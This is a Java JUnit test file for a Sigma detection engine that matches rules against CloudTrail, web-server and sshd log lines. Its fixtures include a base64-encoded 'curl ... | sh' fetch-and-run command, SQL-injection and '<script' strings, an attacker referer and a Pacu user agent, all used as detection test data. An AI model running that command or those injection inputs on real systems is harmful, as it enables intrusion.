package dev.soctriage.detect;

import static dev.soctriage.detect.TestRules.load;
import static dev.soctriage.detect.TestRules.matches;
import static dev.soctriage.detect.TestRules.rule;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/** The engine on rules written here and events parsed as ingest parses them. */
class SigmaEngineTest {
    static final String CLOUDTRAIL = "product: aws\nservice: cloudtrail";
    static final String WEB = "category: webserver";

    static String trail(String eventName, String extra) {
        return "{\"eventVersion\":\"1.09\",\"userIdentity\":{\"type\":\"IAMUser\",\"arn\":\"arn:aws:iam::111122223333:user/mallory\","
                + "\"accountId\":\"111122223333\",\"userName\":\"mallory\"},\"eventTime\":\"2026-12-08T10:00:00Z\","
                + "\"eventSource\":\"cloudtrail.amazonaws.com\",\"eventName\":\"" + eventName + "\",\"awsRegion\":\"eu-west-1\","
                + "\"sourceIPAddress\":\"203.0.113.7\",\"userAgent\":\"aws-cli/2.15.0\"" + extra + "}";
    }

    static String access(String target, String referer, String agent) {
        return "203.0.113.9 - - [08/Dec/2026:10:00:00 +0000] \"GET " + target + " HTTP/1.1\" 200 512 \"" + referer + "\" \"" + agent + "\"";
    }

    @Nested
    class CloudTrailFields {
        final Detections stop = load(rule("Logging stopped", CLOUDTRAIL, """
                selection:
                    eventSource: cloudtrail.amazonaws.com
                    eventName: StopLogging
                filter_failed:
                    errorCode|exists: true
                condition: selection and not filter_failed
                """));

        @Test
        void successfulCall_matches_failedCallDoesNot() {
            assertTrue(matches(stop, trail("StopLogging", ",\"requestParameters\":{\"name\":\"main\"}")));
            assertFalse(matches(stop, trail("StopLogging", ",\"errorCode\":\"AccessDenied\",\"errorMessage\":\"no\"")));
            assertFalse(matches(stop, trail("StartLogging", "")));
        }

        @Test
        void dottedNames_readNestedMembers_arraysByElement_andObjectsAsTheirJson() {
            Detections d = load(rule("Nested", CLOUDTRAIL, """
                    sel_bucket:
                        requestParameters.bucketName|startswith: 'prod-'
                    sel_arn:
                        resources.ARN|endswith: ':key/abc'
                    sel_json:
                        requestParameters|contains: '"acl":"public-read"'
                    sel_type:
                        userIdentity.type: iamuser
                    condition: sel_type and 1 of sel_b* or sel_type and sel_arn or sel_json
                    """));
            assertTrue(matches(d, trail("PutObject", ",\"requestParameters\":{\"bucketName\":\"PROD-data\"}")));
            assertTrue(matches(d, trail("Decrypt", ",\"resources\":[{\"ARN\":\"arn:aws:kms:eu-west-1:111122223333:key/other\"},"
                    + "{\"ARN\":\"arn:aws:kms:eu-west-1:111122223333:key/abc\"}]")));
            assertTrue(matches(d, "{\"eventVersion\":\"1.09\",\"eventSource\":\"s3.amazonaws.com\",\"eventName\":\"PutObjectAcl\","
                    + "\"userIdentity\":{\"type\":\"Root\"},\"requestParameters\":{\"acl\":\"public-read\"}}"));
            assertFalse(matches(d, trail("PutObject", ",\"requestParameters\":{\"bucketName\":\"dev-data\"}")));
        }

        @Test
        void literalGate_doesNotHideAMatch_whenTheRecordEscapesItsText() {
            // \u0053 is "S": a JSON writer may escape any character, so the raw text is not scanned for literals
            Detections d = load(rule("Agent", CLOUDTRAIL, "selection:\n    userAgent|contains: 'Pacu'\ncondition: selection"));
            assertTrue(matches(d, trail("ListBuckets", "").replace("aws-cli/2.15.0", "Boto3 \\u0050acu/1.0")));
            assertFalse(matches(d, trail("ListBuckets", "").replace("aws-cli/2.15.0", "Boto3 \\u0041cu/1.0")));
        }
    }

    @Nested
    class Values {
        @Test
        void matching_isCaseInsensitive_unlessCased() {
            Detections d = load(rule("Cased", CLOUDTRAIL, """
                    a:
                        eventName: stoplogging
                    b:
                        userAgent|cased|contains: 'AWS-CLI'
                    condition: a or b
                    """));
            assertTrue(matches(d, trail("StopLogging", "")));
            assertFalse(matches(d, trail("ListBuckets", "")));
            assertTrue(matches(d, trail("ListBuckets", "").replace("aws-cli", "AWS-CLI")));
        }

        @Test
        void wildcards_andTheirEscapes() {
            Detections d = load(rule("Wild", CLOUDTRAIL, """
                    a:
                        eventName: 'Delete?ucket*'
                    b:
                        userAgent: 'literal\\*star'
                    condition: a or b
                    """));
            assertTrue(matches(d, trail("DeleteBucketPolicy", "")));
            assertTrue(matches(d, trail("DeleteBucket", "")));
            assertFalse(matches(d, trail("DeleteBBucket", "")));
            assertTrue(matches(d, trail("X", "").replace("aws-cli/2.15.0", "literal*star")));
            assertFalse(matches(d, trail("X", "").replace("aws-cli/2.15.0", "literalXstar")));
        }

        @Test
        void all_requiresEveryValue() {
            Detections d = load(rule("All", CLOUDTRAIL, "s:\n    userAgent|contains|all:\n        - aws\n        - '2.15'\ncondition: s"));
            assertTrue(matches(d, trail("X", "")));
            assertFalse(matches(d, trail("X", "").replace("2.15.0", "2.16.0")));
        }

        @Test
        void re_withSubModifiers_cidr_numbers_null_andFieldref() {
            Detections d = load(rule("Re", CLOUDTRAIL, "s:\n    eventName|re|i: '^get(object|bucketacl)$'\ncondition: s"),
                    rule("Cidr", CLOUDTRAIL, "s:\n    sourceIPAddress|cidr: 203.0.113.0/24\ncondition: s"),
                    rule("Number", CLOUDTRAIL, "s:\n    requestParameters.durationSeconds|gte: 43200\ncondition: s"),
                    rule("Nothing", CLOUDTRAIL, "s:\n    eventName: GetObject\nnone:\n    errorCode: null\ncondition: s and none"),
                    rule("Ref", CLOUDTRAIL, "s:\n    userIdentity.userName|fieldref: requestParameters.userName\ncondition: s"));
            assertEquals(List.of("Re", "Cidr", "Nothing"), TestRules.titles(d, trail("GetObject", "")));
            assertEquals(List.of("Cidr"), TestRules.titles(d, trail("GetObjectX", "")));
            assertEquals(List.of("Cidr", "Number"), TestRules.titles(d, trail("AssumeRole", ",\"requestParameters\":{\"durationSeconds\":43200}")));
            assertEquals(List.of("Cidr", "Ref"), TestRules.titles(d, trail("CreateAccessKey", ",\"requestParameters\":{\"userName\":\"MALLORY\"}")));
            assertEquals(List.of("Re", "Cidr"), TestRules.titles(d, trail("GetObject", ",\"errorCode\":\"NoSuchKey\"")));
        }

        @Test
        void base64offset_findsTheValueAtAnyOffset_insideEncodedText() {
            Detections d = load(rule("B64", CLOUDTRAIL, "s:\n    requestParameters.userData|base64offset|contains: 'curl http'\ncondition: s"));
            for (String prefix : new String[] {"", "#", "##", "#!/bin/sh\n"}) {
                String encoded = java.util.Base64.getEncoder().encodeToString((prefix + "curl http://203.0.113.5/x | sh").getBytes());
                assertTrue(matches(d, trail("RunInstances", ",\"requestParameters\":{\"userData\":\"" + encoded + "\"}")), prefix);
            }
            String other = java.util.Base64.getEncoder().encodeToString("apt-get update".getBytes());
            assertFalse(matches(d, trail("RunInstances", ",\"requestParameters\":{\"userData\":\"" + other + "\"}")));
        }

        @Test
        void windash_matchesEveryDashOfAFlag() {
            Detections d = load(rule("Dash", CLOUDTRAIL, "s:\n    userAgent|windash|contains: ' -enc '\ncondition: s"));
            assertTrue(matches(d, trail("X", "").replace("aws-cli/2.15.0", "powershell /enc abc")));
            assertTrue(matches(d, trail("X", "").replace("aws-cli/2.15.0", "powershell \u2013enc abc")));
            assertFalse(matches(d, trail("X", "").replace("aws-cli/2.15.0", "powershell enc abc")));
        }

        @Test
        void expand_resolvesPlaceholdersFromConfiguration_andRefusesWithout() {
            String r = rule("Admins", CLOUDTRAIL, "s:\n    userIdentity.userName|expand: '%Administrators%'\ncondition: s");
            Detections with = load(Map.of("Administrators", List.of("root", "mallory")), r);
            assertTrue(matches(with, trail("X", "")));
            Detections without = load(r);
            assertEquals(0, without.ruleCount());
            assertTrue(without.report().refused().get(0).contains("placeholder %Administrators% has no values"),
                    without.report().refused().toString());
        }
    }

    @Nested
    class Conditions {
        final Detections d = load(rule("Cond", CLOUDTRAIL, """
                a:
                    eventName: A
                b:
                    eventName: B
                c:
                    userAgent|contains: special
                _private:
                    eventName: P
                condition: a or b and c or not (a or b or c or _private) and 1 of them
                """));

        @Test
        void precedence_orBindsLeast_thenAnd_thenNot() {
            assertTrue(matches(d, trail("A", "")));
            assertFalse(matches(d, trail("B", "")), "b and c: c missing");
            assertTrue(matches(d, trail("B", "").replace("aws-cli", "special")));
            // not (a or b or c or _private) and 1 of them: 1 of them needs a, b or c, so this never holds
            assertFalse(matches(d, trail("Z", "")));
            assertFalse(matches(d, trail("P", "")));
        }

        @Test
        void allOfPattern_andListsOfMaps_andConditionLists() {
            Detections x = load(rule("AllOf", CLOUDTRAIL, """
                    selection_name:
                        - eventName: A
                        - eventName: B
                    selection_agent:
                        userAgent|startswith: aws-cli
                    other:
                        eventName: C
                    condition:
                        - all of selection_*
                        - other
                    """));
            assertTrue(matches(x, trail("A", "")));
            assertTrue(matches(x, trail("C", "").replace("aws-cli", "boto")));
            assertFalse(matches(x, trail("B", "").replace("aws-cli", "boto")));
        }
    }

    @Nested
    class Web {
        final Detections d = load(rule("Union", WEB, "s:\n    cs-uri-query|contains: 'union select'\ncondition: s"),
                rule("Encoded literal", WEB, "s:\n    cs-uri-query|contains: '%271%27%3D%271'\ncondition: s"),
                rule("Keywords", WEB, "keywords:\n    - '<script'\ncondition: keywords"),
                rule("Referer", WEB, "s:\n    cs-referer|contains: 'evil.example'\ncondition: s"));

        @Test
        void requestValues_matchDecoded_inEverySpelling_andAsWritten() {
            assertEquals(List.of("Union"), TestRules.titles(d, access("/p?id=1+UNION+SELECT+1", "-", "curl/8")));
            assertEquals(List.of("Union"), TestRules.titles(d, access("/p?id=1%2520union%2520select%25201", "-", "curl/8")));
            assertEquals(List.of("Encoded literal"), TestRules.titles(d, access("/p?q=%271%27%3D%271", "-", "curl/8")));
            assertEquals(List.of("Keywords"), TestRules.titles(d, access("/s?q=%26lt%3Bscript%26gt%3B", "-", "curl/8")));
            assertEquals(List.of("Keywords"), TestRules.titles(d, access("/s?q=%u003cscript", "-", "curl/8")));
        }

        @Test
        void keywords_searchTheRequest_notTheRefererOrUserAgent() {
            assertEquals(List.of(), TestRules.titles(d, access("/", "https://a.example/?q=<script>", "<script>")));
            assertEquals(List.of("Referer"), TestRules.titles(d, access("/", "https://evil.example/", "Mozilla/5.0")));
        }
    }

    @Nested
    class Linux {
        final Detections d = load(rule("Sshd", "product: linux\nservice: sshd", "keywords:\n    - 'Corrupted MAC on input'\ncondition: keywords"),
                rule("Failures", "product: linux\nservice: sshd", "s:\n    event: auth_failure\n    rhost|cidr: 198.51.100.0/24\ncondition: s"));

        @Test
        void serviceNamesThePrograms_keywordsSearchTheMessage_andNormalisedFields() {
            assertEquals(List.of("Sshd"), TestRules.titles(d, "Dec  8 10:00:00 web1 sshd[811]: Corrupted MAC on input. [preauth]"));
            assertEquals(List.of(), TestRules.titles(d, "Dec  8 10:00:00 web1 cron[811]: Corrupted MAC on input."));
            assertEquals(List.of("Failures"),
                    TestRules.titles(d, "Dec  8 10:00:00 web1 sshd[811]: Failed password for root from 198.51.100.4 port 4242 ssh2"));
            assertEquals(List.of(),
                    TestRules.titles(d, "Dec  8 10:00:00 web1 sshd[811]: Accepted password for root from 198.51.100.4 port 4242 ssh2"));
        }
    }

    @Nested
    class Refusals {
        @Test
        void aRuleTheEngineCannotRun_isNamedWithWhy_andTheOthersStillLoad() {
            Detections d = load(rule("Good", CLOUDTRAIL, "s:\n    eventName: A\ncondition: s"),
                    rule("Modifier", CLOUDTRAIL, "s:\n    eventName|nonsense: A\ncondition: s"),
                    rule("Field", WEB, "s:\n    cs-cookie: x\ncondition: s"),
                    rule("Condition", CLOUDTRAIL, "s:\n    eventName: A\ncondition: s and t"),
                    rule("Utf16", CLOUDTRAIL, "s:\n    eventName|wide: A\ncondition: s"),
                    rule("Source", "product: windows\nservice: security", "s:\n    EventID: 4625\ncondition: s"),
                    rule("Aggregation", CLOUDTRAIL, "s:\n    eventName: A\ncondition: s | count() > 5"),
                    "title: broken\nlogsource: [unclosed",
                    "title: Corr\ncorrelation:\n    type: event_count\n    rules: [missing]\n    group-by: [x]\n    timespan: 5m\n    condition:\n        gte: 3\n");
            assertEquals(1, d.ruleCount());
            List<String> refused = d.report().refused();
            assertEquals(8, refused.size(), refused.toString());
            String all = String.join("\n", refused);
            for (String why : new String[] {"unknown modifier |nonsense", "field 'cs-cookie' is not read", "does not define",
                    "|wide without |base64", "no events here for logsource", "obsolete aggregation", "not valid YAML",
                    "refers to missing"}) {
                assertTrue(all.contains(why), why + " in " + all);
            }
        }

        @Test
        void aCatastrophicRegex_onAttackerText_stopsAtItsBudget() {
            Detections d = load(rule("Redos", CLOUDTRAIL, "s:\n    userAgent|re: '^(a+)+$'\ncondition: s"));
            long before = RuleStats.regexBudgetsExhausted();
            long start = System.nanoTime();
            assertFalse(matches(d, trail("X", "").replace("aws-cli/2.15.0", "a".repeat(5000) + "!")));
            assertTrue((System.nanoTime() - start) / 1e9 < 10, "bounded");
            assertEquals(before + 1, RuleStats.regexBudgetsExhausted());
        }
    }
}
